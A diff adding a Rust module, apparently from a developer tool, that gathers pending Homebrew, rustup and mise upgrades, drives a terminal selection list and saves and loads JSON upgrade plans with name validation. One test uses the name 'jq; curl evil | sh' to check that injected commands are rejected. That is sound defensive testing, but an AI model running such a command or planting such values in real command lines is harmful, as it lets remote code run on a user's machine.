@@ -0,0 +1,282 @@
+// 交互式升级模块
+// 列出所有工具的待升级项目，供用户在终端界面中勾选，并支持保存为升级计划
+
+use anyhow::{bail, Context, Result};
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use std::path::Path;
+
+use crate::commands::pending::PendingUpgrade;
+use crate::commands::{homebrew, mise, rustup};
+use crate::parallel::Tool;
+use crate::runner::Runner;
+use crate::snapshot::diff::tool_order;
+use crate::utils::is_valid_name;
+
+pub mod tui;
+
+/// 收集指定工具的待升级项目，按工具顺序和名称排序
+pub fn collect_pending(
+    runner: &dyn Runner,
+    tmpdir: &Path,
+    tools: &[Tool],
+) -> Result<Vec<PendingUpgrade>> {
+    let mut pending = Vec::new();
+    for tool in tools {
+        let items = match tool {
+            Tool::Homebrew => homebrew::pending_upgrades(runner, tmpdir)?,
+            Tool::Rustup => rustup::pending_upgrades(runner, tmpdir)?,
+            Tool::Mise => mise::pending_upgrades(runner, tmpdir)?,
+        };
+        pending.extend(items);
+    }
+    pending.sort_by(|a, b| (tool_order(&a.tool), &a.name).cmp(&(tool_order(&b.tool), &b.name)));
+    Ok(pending)
+}
+
+/// 保存的升级计划
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct UpgradePlan {
+    /// 生成计划的 devtool 版本
+    pub devtool_version: String,
+    /// 生成时间
+    pub created_at: DateTime<Utc>,
+    pub items: Vec<PendingUpgrade>,
+}
+
+impl UpgradePlan {
+    pub fn new(items: Vec<PendingUpgrade>) -> Self {
+        Self {
+            devtool_version: env!("CARGO_PKG_VERSION").to_string(),
+            created_at: Utc::now(),
+            items,
+        }
+    }
+
+    /// 从 JSON 文件加载计划
+    pub fn load(path: &Path) -> Result<Self> {
+        let content =
+            std::fs::read_to_string(path).with_context(|| format!("read plan {:?}", path))?;
+        let plan: Self =
+            serde_json::from_str(&content).with_context(|| format!("parse plan {:?}", path))?;
+        // 计划文件可能来自别处，名称会拼接进升级命令
+        if let Some(item) = plan.items.iter().find(|item| !is_valid_name(&item.name)) {
+            bail!("invalid name {:?} in plan {:?}", item.name, path);
+        }
+        Ok(plan)
+    }
+
+    /// 保存为 JSON 文件
+    pub fn save(&self, path: &Path) -> Result<()> {
+        std::fs::write(path, serde_json::to_string_pretty(self)?)
+            .with_context(|| format!("write plan {:?}", path))
+    }
+}
+
+/// 列表的勾选、过滤和光标状态
+#[derive(Debug, Clone)]
+pub struct Selection {
+    items: Vec<PendingUpgrade>,
+    selected: Vec<bool>,
+    filter: String,
+    /// 光标在过滤后列表中的位置
+    cursor: usize,
+}
+
+impl Selection {
+    /// 创建选择状态，初始时不勾选任何项目
+    pub fn new(items: Vec<PendingUpgrade>) -> Self {
+        let selected = vec![false; items.len()];
+        Self {
+            items,
+            selected,
+            filter: String::new(),
+            cursor: 0,
+        }
+    }
+
+    pub fn items(&self) -> &[PendingUpgrade] {
+        &self.items
+    }
+
+    pub fn is_selected(&self, index: usize) -> bool {
+        self.selected.get(index).copied().unwrap_or(false)
+    }
+
+    pub fn filter(&self) -> &str {
+        &self.filter
+    }
+
+    pub fn cursor(&self) -> usize {
+        self.cursor
+    }
+
+    /// 符合过滤条件的项目索引（按名称或工具名不区分大小写匹配）
+    pub fn visible(&self) -> Vec<usize> {
+        let needle = self.filter.to_lowercase();
+        self.items
+            .iter()
+            .enumerate()
+            .filter(|(_, item)| {
+                needle.is_empty()
+                    || item.name.to_lowercase().contains(&needle)
+                    || item.tool.display_name().to_lowercase().contains(&needle)
+            })
+            .map(|(index, _)| index)
+            .collect()
+    }
+
+    /// 光标所在项目的索引
+    pub fn current(&self) -> Option<usize> {
+        self.visible().get(self.cursor).copied()
+    }
+
+    pub fn move_up(&mut self) {
+        self.cursor = self.cursor.saturating_sub(1);
+    }
+
+    pub fn move_down(&mut self) {
+        let len = self.visible().len();
+        if self.cursor + 1 < len {
+            self.cursor += 1;
+        }
+    }
+
+    pub fn push_filter(&mut self, c: char) {
+        self.filter.push(c);
+        self.clamp_cursor();
+    }
+
+    pub fn pop_filter(&mut self) {
+        self.filter.pop();
+        self.clamp_cursor();
+    }
+
+    pub fn clear_filter(&mut self) {
+        self.filter.clear();
+        self.clamp_cursor();
+    }
+
+    fn clamp_cursor(&mut self) {
+        let len = self.visible().len();
+        self.cursor = self.cursor.min(len.saturating_sub(1));
+    }
+
+    /// 切换光标所在项目的勾选状态
+    pub fn toggle_current(&mut self) {
+        if let Some(index) = self.current() {
+            self.selected[index] = !self.selected[index];
+        }
+    }
+
+    /// 切换某个工具在过滤结果中的全部项目：已全部勾选时取消，否则全部勾选
+    pub fn toggle_tool(&mut self, tool: &Tool) {
+        let indices: Vec<usize> = self
+            .visible()
+            .into_iter()
+            .filter(|&index| &self.items[index].tool == tool)
+            .collect();
+        let all_selected = indices.iter().all(|&index| self.selected[index]);
+        for index in indices {
+            self.selected[index] = !all_selected;
+        }
+    }
+
+    pub fn selected_count(&self) -> usize {
+        self.selected.iter().filter(|&&s| s).count()
+    }
+
+    /// 已勾选的项目（包括被过滤隐藏的项目）
+    pub fn selected_items(&self) -> Vec<PendingUpgrade> {
+        self.items
+            .iter()
+            .zip(&self.selected)
+            .filter(|(_, &selected)| selected)
+            .map(|(item, _)| item.clone())
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    fn item(tool: Tool, name: &str) -> PendingUpgrade {
+        PendingUpgrade {
+            tool,
+            name: name.to_string(),
+            cask: false,
+            current: "1.0.0".to_string(),
+            latest: "2.0.0".to_string(),
+        }
+    }
+
+    fn selection() -> Selection {
+        Selection::new(vec![
+            item(Tool::Homebrew, "git"),
+            item(Tool::Homebrew, "jq"),
+            item(Tool::Rustup, "stable"),
+            item(Tool::Mise, "node"),
+        ])
+    }
+
+    #[test]
+    fn test_filter_and_cursor() {
+        let mut selection = selection();
+        selection.move_down();
+        selection.move_down();
+        assert_eq!(selection.current(), Some(2));
+
+        for c in "NO".chars() {
+            selection.push_filter(c);
+        }
+        assert_eq!(selection.visible(), vec![3]);
+        assert_eq!(selection.current(), Some(3));
+
+        selection.clear_filter();
+        selection.push_filter('x');
+        assert!(selection.visible().is_empty());
+        assert_eq!(selection.current(), None);
+    }
+
+    #[test]
+    fn test_toggle_tool_and_selected_items() {
+        let mut selection = selection();
+        selection.toggle_tool(&Tool::Homebrew);
+        assert_eq!(selection.selected_count(), 2);
+
+        // 已全部勾选时再次切换会取消
+        selection.toggle_tool(&Tool::Homebrew);
+        assert_eq!(selection.selected_count(), 0);
+
+        // 只作用于过滤结果中的项目
+        selection.push_filter('j');
+        selection.toggle_tool(&Tool::Homebrew);
+        selection.clear_filter();
+        selection.move_down();
+        selection.move_down();
+        selection.move_down();
+        selection.toggle_current();
+        let names: Vec<String> = selection
+            .selected_items()
+            .into_iter()
+            .map(|i| i.name)
+            .collect();
+        assert_eq!(names, vec!["jq", "node"]);
+    }
+
+    #[test]
+    fn test_plan_roundtrip() {
+        let tmp = tempdir().unwrap();
+        let path = tmp.path().join("plan.json");
+        let plan = UpgradePlan::new(vec![item(Tool::Mise, "node")]);
+        plan.save(&path).unwrap();
+        assert_eq!(UpgradePlan::load(&path).unwrap(), plan);
+
+        // 名称不是合法标识的计划被拒绝
+        let plan = UpgradePlan::new(vec![item(Tool::Homebrew, "jq; curl evil | sh")]);
+        plan.save(&path).unwrap();
+        assert!(UpgradePlan::load(&path).is_err());
+    }
+}